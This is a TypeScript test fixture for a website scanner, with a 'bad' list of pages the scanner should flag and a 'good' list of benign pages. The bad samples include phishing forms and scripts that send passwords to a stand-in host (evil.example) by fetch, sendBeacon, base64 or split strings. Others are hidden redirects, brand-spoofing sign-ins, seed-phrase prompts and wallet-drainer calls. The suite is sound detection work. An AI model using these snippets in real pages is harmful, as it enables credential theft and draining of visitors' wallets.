/** Pages and scripts as they are published, good and bad, with what a scan says of each. */
import { createHash } from 'node:crypto';
import { Readable } from 'node:stream';
import { keyOf, scanVersion } from '#activities/scanning/version.ts';

const sha = (content: string) => createHash('sha256').update(content).digest('hex');

export const place = {
  address: new URL('https://bakery.sites.test/'),
  hosts: new Set(['bakery.sites.test', 'bakery.example']),
  platform: 'platform.test',
};

type Files = Record<string, string | Buffer | null>;

const manifestOf = (files: Files) =>
  Object.entries(files).map(([path, content]) => {
    return { path, sha256: sha(`${content === null ? path : content}`), bytes: content?.length ?? 0 };
  });

/** What a scan of these files finds, as `path kind` and in full, after versions before it. The bytes of null are missing. */
export async function scan(files: Files, { before = [], ...given }: { before?: Files[]; elapsed?: () => number } = {}) {
  const contents = Object.values(files);
  const manifest = manifestOf(files);
  let beats = 0;
  const reads: string[] = [];
  const store = {
    async read(sha256: string) {
      const at = manifest.findIndex((one) => one.sha256 === sha256);
      reads.push(manifest[at]?.path ?? '');
      const content = contents[at] ?? null;
      return content === null ? undefined : Readable.from(chunks(Buffer.from(content as string)));
    },
  };
  const all = {
    ...store,
    async readAll(sha256: string) {
      const pieces = await store.read(sha256);
      return pieces && Buffer.concat(await pieces.toArray());
    },
  };
  const earlier = before.map((one) => new Set(manifestOf(one).map(keyOf)));
  const beat = () => {
    beats += 1;
  };
  const { found, whole } = await scanVersion(all, { files: manifest, earlier, place, beat, ...given });
  return { found, reads, whole, beats, kinds: found.map(({ path, kind }) => `${path} ${kind}`).sort() };
}

/** In torn pieces, as a disk or a bucket answers. */
function* chunks(content: Buffer) {
  for (let at = 0; at < content.length; at += 60_001) yield content.subarray(at, at + 60_001);
}

const evil = 'https://evil.example/take';
const password = '<input type="password" name="p">';

/** Pages that somebody should look at, by the kind that says so. */
export const bad: readonly (readonly [string, string, string])[] = [
  ['password_form', 'a plain one', `<form action="${evil}">${password}</form>`],
  ['password_form', 'in capitals', `<FORM METHOD=POST ACTION='HTTPS://EVIL.EXAMPLE/'><INPUT TYPE=PASSWORD></FORM>`],
  [
    'password_form',
    'with entities in its action',
    `<form action="&#104;ttps&colon;&#x2f;/evil.example/">${password}</form>`,
  ],
  ['password_form', 'without a scheme', `<form action="//evil.example/x">${password}</form>`],
  ['password_form', 'with backslashes and tabs', `<form action="ht\ttps:\\\\evil.example/x">${password}</form>`],
  ['password_form', 'led elsewhere by a base', `<base href="${evil}"><form action="login">${password}</form>`],
  [
    'password_form',
    'led elsewhere by a base that comes after it',
    `<form action="login">${password}</form><base href="${evil}">`,
  ],
  ['password_form', 'by its button', `<form action="/ok">${password}<button formaction="${evil}">Go</button></form>`],
  [
    'password_form',
    'by a field that stands outside',
    `<form id="f" action="${evil}"></form><input form="f" type="password">`,
  ],
  [
    'password_form',
    'by a field that comes before it',
    `<input form="f" type="password"><form id="f" action="${evil}"></form>`,
  ],
  ['password_form', 'around a harmless one', `<form action="${evil}"><form action="/ok">${password}</form></form>`],
  [
    'password_form',
    'after comments and a broken tag',
    `<!-- <form action="/ok"> --><form <action="/ok" action="${evil}"><!-->${password}`,
  ],
  ['password_form', 'whose table ends before its field', `<table><form action="${evil}"></table>${password}`],
  [
    'password_form',
    'in a frame of its own source',
    `<iframe srcdoc='<form action="${evil}">${password}</form>'></iframe>`,
  ],
  ['password_form', 'to a form of the platform', `<form action="https://platform.test/f/form_1">${password}</form>`],
  ['password_form', 'to a neighbour', `<form action="https://other.sites.test/">${password}</form>`],
  ['password_sent', 'by fetch', `${password}<script>fetch("${evil}",{method:"POST"})</script>`],
  [
    'password_sent',
    'by a form whose action a script sets',
    `<form id="f">${password}</form><script>f.action='${evil}'</script>`,
  ],
  [
    'password_sent',
    'by an attribute that a script sets',
    `${password}<script>f.setAttribute("action", "${evil}")</script>`,
  ],
  ['password_sent', 'by an old request', `${password}<script>x.open('POST', '${evil}')</script>`],
  ['password_sent', 'by name', `${password}<script>const where = "${evil}"; fetch(where, {})</script>`],
  ['password_sent', 'by pieces', `${password}<script>fetch('htt'+'ps://evil'+".example/")</script>`],
  ['password_sent', 'by escapes', `${password}<script>fetch('\\x68ttps:\\u002f/evil.example/')</script>`],
  [
    'password_sent',
    'by base64',
    `${password}<script>navigator.sendBeacon(atob("${Buffer.from(evil).toString('base64')}"))</script>`,
  ],
  ['redirect', 'by a page that refreshes', `<meta http-equiv="refresh" content="0;url=${evil}">`],
  ['redirect', 'by one in capitals and quotes', `<META CONTENT="0; URL='${evil}'" HTTP-EQUIV=Refresh>`],
  ['redirect', 'by a comma', `<meta http-equiv=refresh content="1, ${evil}">`],
  ['redirect', 'by a script', `<script>window.location = "${evil}"</script>`],
  ['redirect', 'by replace', `<script>location.replace('${evil}')</script>`],
  [
    'redirect',
    'by brackets',
    `<script>window["location"]["href"] = "${evil}"</script>`.replace('window["location"]', 'location'),
  ],
  [
    'redirect',
    'by a function that runs by itself',
    `<script>(() => { if (1) { location.href = "${evil}" } })()</script>`,
  ],
  ['redirect', 'by a timer', `<script>setTimeout(function () { location.assign("${evil}") }, 10)</script>`],
  ['redirect', 'by a function that is called', `<script>function go() { location = "${evil}" } go()</script>`],
  ['redirect', 'by an attribute', `<body onload="location='${evil}'">`],
  ['brand_signin', 'with the name of another', `<title>PayP\u00adal – Sign in</title><form>${password}</form>`],
  ['seed_phrase', 'for a wallet', '<p>Enter your secret recovery <b>phrase</b></p><textarea></textarea>'],
  [
    'wallet_drainer',
    'that asks for everything',
    '<script>window.ethereum.request({method:"eth_sendTransaction"}); c.setApprovalForAll(a, true); c.increaseAllowance(a, MaxUint256)</script>',
  ],
  [
    'wallet_drainer',
    'that hides itself',
    `<script>${Array.from({ length: 30 }, (_, n) => `var _0x${(4096 + n).toString(16)}=1;`).join('')}provider.send("eth_sendTransaction")</script>`,
  ],
];

/** Pages that are as they should be. */
export const good: readonly (readonly [string, string])[] = [
  [
    'an enquiry to the platform',
    '<form method="post" action="https://platform.test/f/form_1"><input name="email" type="email"></form>',
  ],
  ['a newsletter elsewhere', '<form action="https://letters.example/subscribe"><input type="email"></form>'],
  [
    'a password that stays',
    `<form action="/members">${password}</form><form>${password}</form><form action="">${password}</form>`,
  ],
  ['a password for its own domain', `<form action="https://bakery.example/in">${password}</form>`],
  [
    'a password beside a newsletter',
    `<form action="/in">${password}</form><form action="https://letters.example/"><input type="email"></form>`,
  ],
  ['a search elsewhere', '<form action="https://search.example/"><input type="search"></form>'],
  ['a form in a comment', `<!-- <form action="${evil}">${password}</form> -->`],
  [
    'a form in words',
    `<pre>&lt;form action="${evil}"&gt;&lt;input type="password"&gt;</pre><textarea><form action="${evil}">${password}</textarea>`,
  ],
  ['a form in a form, which browsers ignore', `<form action="/ok"><form action="${evil}">${password}</form></form>`],
  ['a refresh of itself', '<meta http-equiv="refresh" content="30"><meta http-equiv="refresh" content="0; url=/new">'],
  ['a slow refresh', `<meta http-equiv="refresh" content="10; url=${evil}">`],
  [
    'a link that a visitor presses',
    `<script>button.addEventListener("click", () => { location.href = "${evil}" })</script>`,
  ],
  [
    'data as a script',
    `<script type="application/ld+json">{"url":"${evil}"}</script><script type="text/x">location="${evil}"</script>`,
  ],
  ['figures from elsewhere', '<script>fetch("https://api.weather.example/v1")</script>'],
  ['a shop that takes coins', '<script>window.ethereum.request({ method: "eth_sendTransaction", params })</script>'],
  ['words about a bank', '<title>How we help with PayPal</title><p>PayPal, Microsoft, Google.</p>'],
  ['words about wallets', '<p>Never tell anybody your seed phrase.</p>'],
];
